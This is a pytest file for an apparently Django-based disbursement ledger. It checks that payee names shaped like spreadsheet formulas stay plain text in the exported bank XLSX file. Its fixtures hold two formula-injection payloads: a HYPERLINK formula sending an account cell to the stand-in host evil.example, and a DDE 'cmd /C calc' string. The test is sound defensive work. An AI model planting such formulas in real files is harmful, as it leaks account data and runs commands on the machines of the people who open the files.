"""The bank payment file of a disbursement batch goes through the one writer: a payee named like a
formula is written as its name, never as a live formula (issue #11, defect 8)."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from shouzhan.ledger import services
from tests.ledger.conftest import YEAR, submit_claim

pytestmark = pytest.mark.django_db

EVIL_ENTERPRISE = '=HYPERLINK("http://evil.example/?acct="&C2,"核对收款账户")'
EVIL_PROVIDER = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_like_payees_stay_text_in_the_bank_file(
    programme: Any, officer: Any, caseworker: Any, make_provider: Any, make_enterprise: Any, login_client: Any
) -> None:
    provider = make_provider(EVIL_PROVIDER)
    programme.providers.add(provider[0])
    enterprise, owner = make_enterprise(name=EVIL_ENTERPRISE)
    services.voucher_grant(actor=officer, programme=programme, enterprise=enterprise, amount_fen=10_000)
    claim = submit_claim(programme, enterprise, provider, 4_000)
    services.claim_confirm(actor=owner, claim=claim)
    services.claim_approve(actor=caseworker, claim=claim)
    services.clause_budget_set(actor=officer, clause_id="xuhui.events", year=YEAR, amount_fen=10_000)
    services.budget_reserve(
        actor="system:cases",
        case_id=9,
        clause_id="xuhui.events",
        year=YEAR,
        enterprise_id=enterprise.pk,
        amount_fen=2_505,
    )
    batch = services.disbursement_batch_create(actor=caseworker)

    response = login_client(caseworker).get(f"/ledger/staff/disbursements/{batch.pk}.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = [[(c.value, c.data_type) for c in row[:3]] for row in ws.iter_rows(min_row=2)]
    assert rows == [
        [(1, "n"), (EVIL_PROVIDER, "s"), (40, "n")],
        [(2, "n"), (EVIL_ENTERPRISE, "s"), (25.05, "n")],
    ]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<v>25.05</v>" in xml  # the amount's exact digits
